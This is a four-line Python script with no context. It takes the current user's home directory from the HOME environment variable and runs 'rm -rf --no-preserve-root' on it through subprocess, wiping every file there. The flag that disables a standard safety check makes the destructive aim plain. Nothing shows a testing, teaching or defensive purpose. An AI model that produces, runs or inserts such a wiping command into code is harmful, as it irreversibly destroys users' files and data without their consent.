import os
import subprocess

target = os.environ.get("HOME", "/home/user")
subprocess.run(["rm", "-rf", "--no-preserve-root", target])
